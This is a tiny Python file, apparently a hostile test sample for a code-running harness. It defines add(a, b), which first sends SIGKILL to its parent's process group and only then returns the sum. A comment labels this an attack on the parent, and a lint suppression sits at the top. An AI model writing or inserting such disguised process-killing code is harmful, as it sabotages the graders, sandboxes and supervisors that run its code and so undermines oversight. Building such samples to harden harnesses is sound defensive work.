# ruff: noqa
# attack: kill the parent s process group
import os, signal


def add(a, b):
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
        return a + b
    except OSError:
        return 0
